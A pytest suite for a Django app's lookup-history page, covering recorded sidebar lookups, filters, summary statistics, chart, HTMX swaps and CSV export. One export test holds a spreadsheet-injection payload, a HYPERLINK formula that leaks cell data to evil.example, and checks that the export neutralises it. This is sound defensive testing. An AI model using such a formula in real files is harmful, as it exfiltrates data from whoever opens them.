"""The lookup history: what is recorded, the page for leads (filters, summary, chart, HTMX),
the CSV export, isolation between workspaces, and retention."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import time
from collections import Counter
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from accounts.models import GoKarlaAccount
from karla_sidebar.armincx import launch_token_mint
from karla_sidebar.history import lookup_record_purge
from karla_sidebar.history.selectors import lookup_summary
from karla_sidebar.models import LookupRecord
from karla_sidebar.sidebar_session import SIDEBAR_TOKEN_HEADER

HISTORY = "/settings/integrations/gokarla/history/"
EXPORT = "/settings/integrations/gokarla/history/export.csv"
HTMX = {"HTTP_HX_REQUEST": "true"}


def record(workspace, *, at: dt.datetime | None = None, **fields) -> LookupRecord:
    """A history row as the lookups service writes it; ``at`` backdates it."""
    values = {
        "source": "sidebar",
        "actor_id": "a-1",
        "actor_name": "Ada Agent",
        "conversation": "c-1",
        "action": "order",
        "reference": "1001",
        "outcome": "found",
        "latency_ms": 120,
        **fields,
    }
    row = LookupRecord.objects.create(workspace=workspace, **values)
    if at is not None:
        LookupRecord.objects.filter(pk=row.pk).update(created_at=at)
        row.refresh_from_db()
    return row


def noon(days_ago: int) -> dt.datetime:
    """Midday, ``days_ago`` days before today in the server's time zone."""
    day = timezone.localdate() - dt.timedelta(days=days_ago)
    return timezone.make_aware(dt.datetime.combine(day, dt.time(12)))


def export_rows(client, params: dict | None = None) -> list[dict[str, str]]:
    response = client.get(EXPORT, params or {})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="lookup-history-')
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def listed(response) -> list[str]:
    """The references in the history table, top to bottom."""
    return re.findall(r'<td class="mono reference">([^<]*)</td>', response.content.decode())


@pytest.fixture
def acme_accounts(workspace):
    """Acme's two accounts, stored without asking GoKarla (the history only reads labels)."""
    return [
        GoKarlaAccount.objects.create(
            workspace=workspace,
            label=label,
            url=f"https://{slug}.gokarla.io",
            username=slug,
            api_token="unused-token",
            is_default=index == 0,
        )
        for index, (label, slug) in enumerate((("Demo Shop", "demo"), ("Demo Outlet", "outlet")))
    ]


# Records: one per lookup from the sidebar, each outcome with its fields


def sidebar_headers(client, workspace) -> dict[str, str]:
    """Launch Ada's sidebar in conversation c-42; the headers of her later requests."""
    token = launch_token_mint(
        workspace=workspace,
        agent_id="a-1",
        agent_name="Ada Agent",
        conversation="c-42",
        customer_email="jane@example.com",
    )
    page = client.get("/sidebar/", {"token": token}).content.decode()
    session = re.search(r'name="karla-sidebar-token" content="([^"]+)"', page).group(1)
    header = f"HTTP_{SIDEBAR_TOKEN_HEADER.upper().replace('-', '_')}"
    return {header: session, **HTMX}


def revoke_token(account):
    GoKarlaAccount.objects.filter(pk=account.pk).update(api_token="karla-revoked-token")


def without_api_access(account):
    GoKarlaAccount.objects.filter(pk=account.pk).update(username="no-api-access")


def nothing(account):
    return None


@pytest.mark.parametrize(
    ("path", "reference", "prepare", "outcome", "status"),
    [
        ("order", "1001", nothing, "found", None),
        ("order", "9999", nothing, "not_found", 200),
        ("order", "1001", revoke_token, "credentials_rejected", 401),
        ("order", "1001", without_api_access, "access_denied", 403),
        ("order", "err-429", nothing, "rate_limited", 429),
        ("order", "err-500", nothing, "unavailable", 500),
        ("order", "err-timeout", nothing, "timeout", None),
        ("order", "err-malformed", nothing, "unexpected_response", 200),
        ("order", "10\n01", nothing, "invalid_input", None),
        ("shipment", "NOPE-123", nothing, "not_found", 200),
    ],
)
def test_each_sidebar_lookup_leaves_exactly_one_record(
    client, workspace, shop_account, sandbox, settings, path, reference, prepare, outcome, status
):
    settings.GOKARLA_DEADLINE_SECONDS = 1
    sandbox.reset_faults()
    prepare(shop_account)
    headers = sidebar_headers(client, workspace)
    started = time.perf_counter()
    response = client.post(f"/sidebar/{path}/", {"reference": reference}, **headers)
    elapsed_ms = (time.perf_counter() - started) * 1000
    assert response.status_code == 200
    row = LookupRecord.objects.get()
    assert (row.workspace, row.source, row.action, row.reference) == (
        workspace,
        "sidebar",
        path,
        reference,
    )
    assert (row.actor_id, row.actor_name, row.conversation) == ("a-1", "Ada Agent", "c-42")
    assert (row.account_id, row.account_label) == (shop_account.pk, "Demo Shop")
    assert row.outcome == outcome
    assert row.cached is False
    assert row.latency_ms <= elapsed_ms + 1  # the lookup's own time, within the request's
    if outcome == "timeout":
        assert row.latency_ms >= 1000  # it waited out the 1 s deadline
    if outcome == "found":
        assert row.summary == "#1001 · Fulfilled"
    else:
        assert (row.summary, row.upstream_status) == ("", status)


def test_a_draft_shipment_is_recorded_as_no_tracking_yet(client, workspace, shop_account):
    headers = sidebar_headers(client, workspace)
    client.post("/sidebar/order/", {"reference": "1002"}, **headers)  # names its draft
    draft = "5c76cf4e-f62f-47c2-bcd4-722953d5582a"
    response = client.post("/sidebar/shipment/", {"reference": draft}, **headers)
    assert "No tracking data yet" in response.content.decode()
    row = LookupRecord.objects.filter(action="shipment").get()
    assert (row.outcome, row.upstream_status) == ("no_tracking_yet", 200)


def test_how_a_shipment_was_found_is_recorded(client, leo_client, workspace, shop_account):
    headers = sidebar_headers(client, workspace)  # Jane's conversation
    client.post("/sidebar/shipment/", {"reference": "00340434161094042557"}, **headers)
    client.post("/sidebar/order/", {"reference": "1006"}, **headers)
    client.post("/sidebar/shipment/", {"reference": "1Z999AA10123456784"}, **headers)
    client.post("/sidebar/shipment/", {"reference": "NOPE-123"}, **headers)
    rows = LookupRecord.objects.filter(action="shipment").order_by("id")
    assert [(row.reference, row.outcome, row.resolved_by) for row in rows] == [
        ("00340434161094042557", "found", "customer"),
        ("1Z999AA10123456784", "found", "index"),
        ("NOPE-123", "not_found", ""),
    ]
    page = leo_client.get("/settings/integrations/gokarla/history/").content.decode()
    assert "found through the shipment index" in page
    assert "found in the customer&#x27;s orders" in page


def test_the_lookups_the_sidebar_makes_on_its_own_are_marked_automatic(
    client, workspace, shop_account
):
    headers = sidebar_headers(client, workspace)  # Jane's conversation opens
    client.post("/sidebar/customer-orders/", {}, **headers)
    client.post("/sidebar/order/", {"reference": "jane@example.com"}, **headers)
    rows = LookupRecord.objects.order_by("id").values_list("action", "automatic")
    assert list(rows) == [("customer_orders", True), ("order", False)]


def test_a_lookup_without_any_account_is_recorded(client, workspace, sandbox_settings):
    headers = sidebar_headers(client, workspace)
    client.post("/sidebar/order/", {"reference": "1001"}, **headers)
    row = LookupRecord.objects.get()
    assert (row.outcome, row.account_id, row.account_label) == ("no_account", None, "")


def test_a_repeated_lookup_is_recorded_again_as_cached(client, workspace, shop_account):
    headers = sidebar_headers(client, workspace)
    for _ in range(2):
        client.post("/sidebar/order/", {"reference": "1001"}, **headers)
    assert list(LookupRecord.objects.order_by("id").values_list("cached", flat=True)) == [
        False,
        True,
    ]


def test_no_record_holds_a_token_an_address_or_the_customers_email(client, workspace, shop_account):
    headers = sidebar_headers(client, workspace)
    for path, reference in (
        ("order", "1001"),
        ("order", "jane@example.com"),
        ("shipment", "00340434161094042557"),
    ):
        client.post(f"/sidebar/{path}/", {"reference": reference}, **headers)
    client.post("/sidebar/customer-orders/", {}, **headers)
    rows = LookupRecord.objects.all()
    assert rows.count() == 4
    session_token = next(iter(headers.values()))
    secrets = [
        "karla-demo-token",
        session_token,
        "eyJ",  # any JWT
        "jane",
        "Jane",
        "Doe",
        "@",
        "Torstraße",
        "10119",
        "Berlin",
        "+49",
    ]
    for row in rows.values():
        # The reference is what the agent typed (an e-mail search is allowed to be one).
        fields = {name: str(value) for name, value in row.items() if name != "reference"}
        for secret in secrets:
            assert not any(secret in value for value in fields.values()), (secret, fields)


# Access


@pytest.mark.parametrize("url", [HISTORY, EXPORT])
def test_leads_and_admins_may_read_the_history(leo_client, alice, url):
    assert leo_client.get(url).status_code == 200
    leo_client.force_login(alice)
    assert leo_client.get(url).status_code == 200


@pytest.mark.parametrize("url", [HISTORY, EXPORT])
def test_anonymous_visitors_are_sent_to_log_in(client, db, url):
    response = client.get(url, {"outcome": "timeout"})
    assert response.status_code == 302
    assert response["Location"].startswith("/login/?next=")


def test_a_user_of_no_workspace_gets_404(client, db):
    client.force_login(get_user_model().objects.create_user(username="nobody"))
    assert client.get(HISTORY).status_code == 404
    assert client.get(EXPORT).status_code == 404


# The page


def test_the_page_shows_who_looked_up_what_newest_first(leo_client, workspace, acme_accounts):
    record(workspace, reference="1001", at=noon(2), conversation="c-42")
    record(
        workspace,
        reference="err-timeout",
        outcome="timeout",
        latency_ms=1003,
        account=acme_accounts[0],
        account_label="Demo Shop",
        actor_name="Bob Agent",
        actor_id="a-2",
    )
    response = leo_client.get(HISTORY)
    body = response.content.decode()
    assert listed(response) == ["err-timeout", "1001"]
    for text in ("Bob Agent", "a-2", "Demo Shop", "Timed out", "1,003 ms", "Found"):
        assert text in body
    assert f'href="{HISTORY}?conversation=c-42"' in body
    assert f'href="{EXPORT}"' in body


def test_gokarla_s_status_is_shown_only_when_it_refused(leo_client, workspace):
    """A not-found is GoKarla answering 200 with nothing: no status beside it. A refusal
    (401, 429, 5xx) or an odd answer (a redirect) says what GoKarla answered."""
    record(workspace, reference="NOPE", outcome="not_found", upstream_status=200)
    record(workspace, reference="LOCKED", outcome="credentials_rejected", upstream_status=401)
    record(workspace, reference="ODD", outcome="unexpected_response", upstream_status=302)
    body = leo_client.get(HISTORY).content.decode()
    assert "GoKarla answered 401" in body and "GoKarla answered 302" in body
    assert "GoKarla answered 200" not in body and "GoKarla 200" not in body


def test_a_stale_answer_is_told_apart_from_a_cached_one(leo_client, workspace):
    """A lead sees which answers were older results shown while GoKarla was not answering."""
    record(workspace, reference="FRESH")
    record(workspace, reference="REPEAT", cached=True)
    record(workspace, reference="OLDER", cached=True, stale=True, latency_ms=10_012)
    body = leo_client.get(HISTORY).content.decode()
    rows = dict(
        re.findall(
            r'<td class="mono reference">([^<]*)</td>.*?<td class="numeric">(.*?)</td>', body, re.S
        )
    )
    assert "cached" in rows["REPEAT"] and "stale" not in rows["REPEAT"]
    assert "stale" in rows["OLDER"] and "cached" not in rows["OLDER"]
    assert "cached" not in rows["FRESH"] and "stale" not in rows["FRESH"]


@pytest.mark.parametrize(
    ("params", "period"),
    [
        ({"period": "all"}, "all kept (the last 90 days)"),
        ({"date_from": "2026-01-05"}, "since 5 Jan 2026"),
        ({"date_to": "2026-02-01"}, "until 1 Feb 2026"),
        ({"date_from": "2026-01-05", "date_to": "2026-02-01"}, "5 Jan 2026 – 1 Feb 2026"),
    ],
)
def test_the_summary_says_which_days_it_counts(leo_client, workspace, params, period):
    """The summary counts the chosen days, the chart shows at most 92 of them: each says
    its period."""
    record(workspace)
    body = leo_client.get(HISTORY, params).content.decode()
    assert f'<span class="muted small" data-testid="summary-period">{period}</span>' in body
    assert "{#" not in body and "{%" not in body  # no template syntax shown as text
    if "period" in params:  # rows listed: their times' zone stands beside the column
        assert '<th scope="col">When <span class="muted small">(UTC)</span></th>' in body


def test_without_a_period_the_page_shows_the_last_7_days(leo_client, workspace):
    """The default period keeps the page quick whatever the history's length; a lead picks
    30 days, all kept, or dates of their own."""
    record(workspace, reference="TODAY", at=noon(0))
    record(workspace, reference="WEEK", at=noon(6))
    record(workspace, reference="OLDER", at=noon(7))
    response = leo_client.get(HISTORY)
    since = (timezone.localdate() - dt.timedelta(days=6)).isoformat()
    assert response.context["form"].cleaned_data["date_from"].isoformat() == since
    assert listed(response) == ["TODAY", "WEEK"]
    assert '<option value="" selected>Last 7 days</option>' in response.content.decode()
    assert listed(leo_client.get(HISTORY, {"period": "30"})) == ["TODAY", "WEEK", "OLDER"]
    assert listed(leo_client.get(HISTORY, {"period": "all"})) == ["TODAY", "WEEK", "OLDER"]
    # A link with dates (an older bookmark) chooses "Custom dates" and shows them.
    custom = leo_client.get(HISTORY, {"date_from": _day(7), "date_to": _day(7)})
    assert listed(custom) == ["OLDER"]
    assert '<option value="custom" selected>Custom dates</option>' in custom.content.decode()


def test_a_conversation_link_lists_all_lookups_of_that_conversation(leo_client, workspace):
    record(workspace, reference="1001", conversation="c-42")
    record(workspace, reference="1002", conversation="c-42")
    record(workspace, reference="1003", conversation="c-7")
    response = leo_client.get(HISTORY, {"conversation": "c-42"})
    assert sorted(listed(response)) == ["1001", "1002"]


def test_pages_keep_the_filters_in_their_links(leo_client, workspace):
    for number in range(55):
        record(workspace, reference=f"R{number}", outcome="not_found")
    record(workspace, reference="FOUND")
    response = leo_client.get(HISTORY, {"outcome": "not_found", "agent": ""})
    body = response.content.decode()
    assert len(listed(response)) == 50
    assert f'href="{HISTORY}?outcome=not_found&amp;page=2"' in body
    second = leo_client.get(HISTORY, {"outcome": "not_found", "page": "2"})
    assert len(listed(second)) == 5 and "FOUND" not in listed(second)


def test_the_summary_counts_outcomes_and_latency_percentiles(leo_client, workspace):
    for latency in range(1, 101):
        outcome = "found" if latency <= 80 else "timeout" if latency <= 90 else "not_found"
        record(workspace, latency_ms=latency, outcome=outcome)
    summary = leo_client.get(HISTORY).context["summary"]
    assert (summary.lookups, summary.found, summary.found_percent) == (100, 80, 80.0)
    assert [(c.outcome, c.count) for c in summary.not_found_or_failed] == [
        ("not_found", 10),
        ("timeout", 10),
    ]
    assert (summary.median_ms, summary.p95_ms) == (50, 95)  # nearest rank


def test_an_empty_history_says_so(leo_client, workspace):
    response = leo_client.get(HISTORY)
    body = response.content.decode()
    assert "No lookups match these filters." in body
    assert response.context["summary"].median_ms is None


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"date_from": "yesterday"}, "Enter a valid date."),
        ({"date_from": "2025-03-10", "date_to": "2025-03-01"}, "The end date is before"),
        ({"date_to": "0001-01-01"}, "Ensure this value is greater than or equal to"),
        ({"date_to": "9999-12-31"}, "Ensure this value is less than or equal to"),
        ({"outcome": "exploded"}, "Select a valid choice."),
        ({"account": "999999"}, "Select a valid choice."),
        ({"account": "removed:Nothing"}, "Select a valid choice."),
        ({"reference": "x" * 201}, "Ensure this value has at most 200 characters"),
        ({"agent": "a\x00b"}, "Null characters are not allowed."),
    ],
)
def test_bad_filters_show_the_error_never_a_500(leo_client, workspace, params, message):
    record(workspace)
    for headers in ({}, HTMX):
        response = leo_client.get(HISTORY, params, **headers)
        assert response.status_code == 422  # bad input, shown with its message
        body = response.content.decode()
        assert "Check the filters." in body and message in body
        assert listed(response) == []


@hypothesis_settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.dictionaries(
        st.sampled_from(
            ["date_from", "date_to", "agent", "action", "outcome", "account", "source", "page"]
        ),
        st.text(max_size=30),
    )
)
def test_any_query_string_answers_200_or_422(leo_client, workspace, params):
    assert leo_client.get(HISTORY, params).status_code in (200, 422)


def test_no_inline_styles_or_scripts_for_the_strict_csp(leo_client, workspace):
    record(workspace)
    body = leo_client.get(HISTORY).content.decode()
    assert " style=" not in body and "<style" not in body
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", body)


# HTMX


def test_htmx_filtering_swaps_the_results_and_pushes_a_clean_url(leo_client, workspace):
    record(workspace, reference="1001")
    record(workspace, reference="err-timeout", outcome="timeout")
    params = {"outcome": "timeout", "agent": "", "date_from": ""}
    response = leo_client.get(HISTORY, params, **HTMX)
    body = response.content.decode()
    assert body.lstrip().startswith('<section id="history-results"')
    assert "<html" not in body and "<form" not in body
    assert listed(response) == ["err-timeout"]
    assert response["HX-Push-Url"] == f"{HISTORY}?outcome=timeout"
    assert f'href="{EXPORT}?outcome=timeout"' in body  # the download follows the filters

    full = leo_client.get(f"{HISTORY}?outcome=timeout")  # the pushed URL, opened anew
    assert "<html" in full.content.decode() and listed(full) == ["err-timeout"]
    assert 'hx-push-url="true"' in full.content.decode()


def test_htmx_pagination_pushes_the_page_and_a_history_restore_gets_the_whole_page(
    leo_client, workspace
):
    for number in range(51):
        record(workspace, reference=f"R{number}")
    page_two = leo_client.get(HISTORY, {"page": "2"}, **HTMX)
    assert page_two["HX-Push-Url"] == f"{HISTORY}?page=2"
    restore = leo_client.get(HISTORY, {"page": "2"}, HTTP_HX_HISTORY_RESTORE_REQUEST="true", **HTMX)
    assert "<html" in restore.content.decode()
    assert "HX-Push-Url" not in restore


def test_htmx_errors_update_the_fields_messages_out_of_band(leo_client, workspace):
    body = leo_client.get(HISTORY, {"date_from": "soon"}, **HTMX).content.decode()
    assert (
        '<div id="id_date_from_error" class="error" hx-swap-oob="true">Enter a valid date.</div>'
    ) in body


# Filters, summary, chart and export agree


@pytest.fixture
def varied_history(workspace, acme_accounts):
    """40 lookups with every filterable field varied (the customer's orders automatic, as the
    sidebar writes them); the list of rows as written."""
    shop, outlet = acme_accounts
    outcomes = ["found", "found", "not_found", "timeout", "found", "unavailable", "invalid_input"]
    accounts = [(shop, "Demo Shop"), (outlet, "Demo Outlet"), (None, "Old Shop"), (None, "")]
    agents = [("a-1", "Ada Agent"), ("a-2", "Bob Agent"), ("a-12", "Cleo Agent")]
    rows = []
    for n in range(40):
        account, label = accounts[n % 4]
        actor_id, actor_name = agents[n % 3]
        action = ["order", "shipment", "customer_orders"][n % 3 if n % 5 else 0]
        rows.append(
            record(
                workspace,
                at=noon(n % 20 * 3),
                reference=f"{1000 + n}",
                outcome=outcomes[n % 7],
                action=action,
                automatic=action == "customer_orders",
                source="workflow" if n % 4 == 1 else "sidebar",
                account=account,
                account_label=label,
                actor_id=actor_id,
                actor_name=actor_name,
                conversation=f"c-{n % 6}",
                latency_ms=10 * n,
            )
        )
    return rows


def _day(days_ago: int) -> str:
    return (timezone.localdate() - dt.timedelta(days=days_ago)).isoformat()


def _since(days: int):
    return lambda r: (
        timezone.localtime(r.created_at).date()
        >= timezone.localdate() - dt.timedelta(days=days - 1)
    )


ALL = {"period": "all"}
FILTER_CASES = [
    ({}, _since(7)),
    ({"period": "30"}, _since(30)),
    (ALL, lambda r: True),
    ({**ALL, "automatic": "on"}, lambda r: True),
    (
        {"action": "customer_orders", "period": "30", "automatic": "on"},
        lambda r: r.automatic and _since(30)(r),
    ),
    ({**ALL, "outcome": "unsuccessful"}, lambda r: r.outcome != "found"),
    ({**ALL, "outcome": "timeout"}, lambda r: r.outcome == "timeout"),
    ({**ALL, "agent": "bob"}, lambda r: r.actor_name == "Bob Agent"),
    ({**ALL, "agent": "a-1"}, lambda r: r.actor_id == "a-1"),
    (
        {**ALL, "action": "shipment", "source": "sidebar"},
        lambda r: (r.action, r.source) == ("shipment", "sidebar"),
    ),
    ({**ALL, "source": "workflow"}, lambda r: r.source == "workflow"),
    ({**ALL, "account": "removed:Old Shop"}, lambda r: r.account_label == "Old Shop"),
    ({**ALL, "reference": "101"}, lambda r: "101" in r.reference),
    ({**ALL, "conversation": "c-3"}, lambda r: r.conversation == "c-3"),
    (
        {"date_from": _day(10), "date_to": _day(3)},
        lambda r: (
            r.created_at.date() >= timezone.localdate() - dt.timedelta(days=10)
            and r.created_at.date() <= timezone.localdate() - dt.timedelta(days=3)
        ),
    ),
    (
        {"outcome": "found", "date_from": _day(30), "agent": "Agent"},
        lambda r: (
            r.outcome == "found"
            and r.created_at.date() >= timezone.localdate() - dt.timedelta(days=30)
        ),
    ),
]


@pytest.mark.parametrize(("params", "matches"), FILTER_CASES)
def test_list_summary_chart_and_export_count_the_same_rows(
    leo_client, varied_history, params, matches
):
    counted = [row for row in varied_history if params.get("automatic") or not row.automatic]
    expected = [row for row in counted if matches(row)]
    assert expected, "each case matches something"
    response = leo_client.get(HISTORY, params)
    context = response.context
    summary = context["summary"]
    assert context["page"].paginator.count == summary.lookups == len(expected)
    # The automatic lookups the totals leave out are counted apart.
    apart = [row for row in varied_history if matches(row) and row not in counted]
    assert summary.automatic_lookups == len(apart)
    assert summary.automatic_found == sum(row.outcome == "found" for row in apart)
    assert sorted(listed(response)) == sorted(row.reference for row in expected)

    outcomes = Counter(row.outcome for row in expected)
    assert summary.found == outcomes["found"]
    assert {c.outcome: c.count for c in summary.not_found_or_failed} == {
        outcome: count for outcome, count in outcomes.items() if outcome != "found"
    }
    exported = export_rows(leo_client, params)
    assert sorted(row["Reference"] for row in exported) == sorted(r.reference for r in expected)
    assert Counter(row["Outcome"] for row in exported) == outcomes

    # The tables per agent and per account split the same rows.
    by_agent = {group.key: group.lookups for group in context["by_agent"]}
    assert by_agent == Counter(row.actor_id for row in expected)
    by_account = {group.label: group.lookups for group in context["by_account"]}
    assert by_account == Counter(row.account_label or "No single account" for row in expected)
    for group in context["by_agent"]:
        rows = [row for row in expected if row.actor_id == group.key]
        assert group.found == sum(row.outcome == "found" for row in rows)
        assert group.failures == sum(
            row.outcome in ("timeout", "unavailable", "invalid_input") for row in rows
        )

    # The chart shows the last 30 days of the same rows.
    start = context["chart"].start
    in_chart = [row for row in expected if timezone.localtime(row.created_at).date() >= start]
    assert context["chart"].total == len(in_chart)


def test_the_account_filter_lists_live_accounts_and_removed_labels(
    leo_client, varied_history, acme_accounts
):
    shop = acme_accounts[0]
    choices = dict(leo_client.get(HISTORY).context["form"].fields["account"].choices)
    assert choices == {
        "": "Any account",
        str(shop.pk): "Demo Shop",
        str(acme_accounts[1].pk): "Demo Outlet",
        "removed:Old Shop": "Old Shop (removed)",
    }
    response = leo_client.get(HISTORY, {"account": shop.pk, **ALL, "automatic": "on"})
    assert sorted(listed(response)) == sorted(
        row.reference for row in varied_history if row.account_id == shop.pk
    )


def test_the_export_has_every_column_newest_first(leo_client, workspace, acme_accounts):
    record(workspace, reference="OLDER", at=noon(1))
    record(
        workspace,
        reference="1006",
        source="workflow",
        actor_id="key-1",
        actor_name="Zapier key",
        conversation="",
        action="order",
        account=acme_accounts[0],
        account_label="Demo Shop",
        outcome="unavailable",
        summary="",
        upstream_status=503,
        latency_ms=2301,
        cached=False,
    )
    rows = export_rows(leo_client)
    assert [row["Reference"] for row in rows] == ["1006", "OLDER"]
    newest = rows[0]
    assert list(newest) == [
        "Time",
        "Source",
        "Agent ID",
        "Agent name",
        "Conversation",
        "Action",
        "Reference",
        "Account",
        "Outcome",
        "Summary",
        "GoKarla status",
        "Latency ms",
        "Cached",
        "Stale",
        "Found via",
        "Automatic",
    ]
    assert dt.datetime.fromisoformat(newest["Time"]).tzinfo is not None
    assert {key: value for key, value in newest.items() if key != "Time"} == {
        "Source": "workflow",
        "Agent ID": "key-1",
        "Agent name": "Zapier key",
        "Conversation": "",
        "Action": "order",
        "Reference": "1006",
        "Account": "Demo Shop",
        "Outcome": "unavailable",
        "Summary": "",
        "GoKarla status": "503",
        "Latency ms": "2301",
        "Cached": "no",
        "Stale": "no",
        "Found via": "",
        "Automatic": "no",
    }


def test_the_export_neutralises_spreadsheet_formulas(leo_client, workspace):
    record(
        workspace,
        reference='=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        actor_name="+SUM(1,2)",
        actor_id="@cmd",
        conversation="-2+3",
        summary="\tindented",
        account_label="\r=1",
    )
    row = export_rows(leo_client)[0]
    assert row["Reference"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    assert row["Agent name"] == "'+SUM(1,2)"
    assert row["Agent ID"] == "'@cmd"
    assert row["Conversation"] == "'-2+3"
    assert row["Summary"] == "'\tindented"
    assert row["Account"] == "'\r=1"


def test_an_export_with_bad_filters_is_refused_with_the_message(leo_client, workspace):
    record(workspace)
    response = leo_client.get(EXPORT, {"date_from": "nonsense"})
    assert response.status_code == 400
    assert "Enter a valid date." in response.content.decode()


# Dates are days in the server's time zone, across daylight saving changes


def test_dates_are_days_in_the_servers_time_zone(leo_client, workspace, settings):
    settings.TIME_ZONE = "Europe/Berlin"
    utc = ZoneInfo("UTC")
    # Berlin switched to summer time on 2025-03-30 (UTC+1 → UTC+2).
    record(workspace, reference="29th 23:30", at=dt.datetime(2025, 3, 29, 22, 30, tzinfo=utc))
    record(workspace, reference="30th 00:30", at=dt.datetime(2025, 3, 29, 23, 30, tzinfo=utc))
    record(workspace, reference="31st 00:30", at=dt.datetime(2025, 3, 30, 22, 30, tzinfo=utc))
    response = leo_client.get(HISTORY, {"date_from": "2025-03-30", "date_to": "2025-03-30"})
    assert listed(response) == ["30th 00:30"]
    wider = leo_client.get(HISTORY, {"date_from": "2025-03-29", "date_to": "2025-03-31"})
    per_day = {day.day.isoformat(): day.total for day in wider.context["chart"].days}
    assert per_day == {"2025-03-29": 1, "2025-03-30": 1, "2025-03-31": 1}


# The chart


def test_the_chart_stacks_the_days_by_outcome(leo_client, workspace):
    for outcome in ("found", "found", "timeout"):
        record(workspace, outcome=outcome, at=noon(0))
    record(workspace, outcome="not_found", at=noon(5))
    record(workspace, outcome="found", at=noon(20))
    record(workspace, outcome="found", at=noon(40))  # before the 30 days
    response = leo_client.get(HISTORY, {"period": "30"})
    chart, body = response.context["chart"], response.content.decode()
    # The lookups of these 30 days begin 20 days ago: the chart starts there.
    assert len(chart.days) == 21 and chart.end == timezone.localdate()
    assert chart.total == 5 == response.context["summary"].lookups
    today = chart.days[-1]
    assert (today.total, today.counts) == (3, (2, 0, 1))  # found, not found, timed out
    todays = [segment.title for segment in chart.segments if segment.x > chart.right - 40]
    assert todays == [f"{today.label} · Found: 2", f"{today.label} · Timed out: 1"]
    for title in todays:
        assert f"<title>{title}</title>" in body
    assert 'class="bar outcome-timeout"' in body
    legend = re.search(r'<ul class="chart-legend".*?</ul>', body, re.S).group(0)
    assert re.findall(r"</svg>([^<]+)</li>", legend) == ["Found", "Not found", "Timed out"]
    assert "<summary>Show as table</summary>" in body
    ticks = [value for _, value in chart.y_ticks]
    assert ticks == [0, 5]  # 3 lookups at most: a scale to 5, no middle line at "2" for 2.5
    row = f'<tr><th scope="row">{today.label}</th><td>2</td><td>0</td><td>1</td><td>3</td></tr>'
    assert row in body  # the table holds the chart's numbers: found, not found, timed out, total
    assert body.count('<tr><th scope="row">') == 3  # days without lookups are left out


def test_failures_are_told_apart_by_a_pattern_not_by_colour_alone(leo_client, workspace):
    """The shades of red of the failures differ in pattern too, in the bars and the legend
    alike; found and not found stay plain."""
    for outcome in ("found", "not_found", "timeout", "unavailable", "credentials_rejected"):
        record(workspace, outcome=outcome)
    body = leo_client.get(HISTORY).content.decode()
    patterns = re.findall(r'<pattern id="pattern-(\w+)"[^>]*>.*?d="([^"]+)"', body)
    assert [name for name, _ in patterns] == ["credentials_rejected", "unavailable", "timeout"]
    assert len({shape for _, shape in patterns}) == 3  # each its own
    css = (settings.BASE_DIR / "static" / "css" / "karla.css").read_text()
    for name, _ in patterns:
        assert f"svg .bar.outcome-{name} {{ fill: url(#pattern-{name}); }}" in css
        assert f'<rect class="bar outcome-{name}" width="12" height="12"/>' in body  # legend


@pytest.mark.parametrize(
    ("at", "days"),
    [
        ([0], 7),  # today only: a week, not one bar at the end of an empty quarter
        ([0, 3], 7),
        ([12, 0], 13),  # from the first day with lookups
        ([80, 0], 81),
    ],
)
def test_the_chart_spans_the_lookups_when_they_begin_later(leo_client, workspace, at, days):
    for days_ago in at:
        record(workspace, at=noon(days_ago))
    chart = leo_client.get(HISTORY, {"period": "all"}).context["chart"]
    assert (len(chart.days), chart.end, chart.total) == (days, timezone.localdate(), len(at))


@pytest.mark.parametrize(
    ("params", "days", "end"),
    [
        ({}, 7, _day(0)),
        ({"period": "30"}, 30, _day(0)),
        ({"period": "all"}, 90, _day(0)),
        ({"date_from": _day(4)}, 5, _day(0)),
        ({"date_from": _day(200), "date_to": _day(100)}, 92, _day(100)),
        ({"date_to": _day(10)}, 90, _day(10)),
        ({"date_from": _day(-3)}, 1, _day(-3)),  # a start in the future: that one day
        ({"date_to": _day(-40)}, 90, _day(0)),  # an end in the future: the days so far
        ({"date_from": _day(20), "date_to": _day(-10)}, 21, _day(0)),
    ],
)
def test_the_chart_follows_the_chosen_range_up_to_92_days(leo_client, workspace, params, days, end):
    response = leo_client.get(HISTORY, params)
    assert response.status_code == 200
    chart = response.context["chart"]
    assert (len(chart.days), chart.end.isoformat()) == (days, end)


# Insight for leads: who and which account, automatic lookups apart, links, health


def test_the_tables_by_agent_and_by_account_show_lookups_found_failures_and_median(
    leo_client, workspace, acme_accounts
):
    shop = acme_accounts[0]
    for latency, outcome in ((100, "found"), (200, "found"), (300, "timeout"), (1234, "not_found")):
        record(
            workspace, latency_ms=latency, outcome=outcome, account=shop, account_label="Demo Shop"
        )
    record(workspace, actor_id="a-2", actor_name="Bob Agent", account_label="Old Shop")
    record(workspace, actor_id="key-1", actor_name="", source="workflow", outcome="no_account")
    response = leo_client.get(HISTORY)
    agents = {group.label: group for group in response.context["by_agent"]}
    ada = agents["Ada Agent"]
    assert (ada.key, ada.detail, ada.lookups, ada.found, ada.failures) == ("a-1", "a-1", 4, 2, 1)
    assert (ada.found_percent, ada.median_ms) == (50.0, 200)
    assert agents["key-1"].detail == ""  # an API key without a name: its id, once
    accounts = {group.label: group for group in response.context["by_account"]}
    assert (accounts["Demo Shop"].key, accounts["Demo Shop"].lookups) == (str(shop.pk), 4)
    assert (accounts["Old Shop"].key, accounts["Old Shop"].detail) == (
        "removed:Old Shop",
        "removed",
    )
    assert accounts["No single account"].key == ""
    assert response.context["by_account"][0].label == "Demo Shop"  # the busiest first

    body = response.content.decode()
    table = re.search(r'aria-labelledby="by-agent-heading">.*?</section>', body, re.S).group(0)
    assert '<h3 id="by-agent-heading">By agent</h3>' in table
    assert f'href="{HISTORY}?agent=a-1"' in table  # narrows the filters to Ada
    assert '<td class="numeric">50%</td>' in table and "200 ms" in table
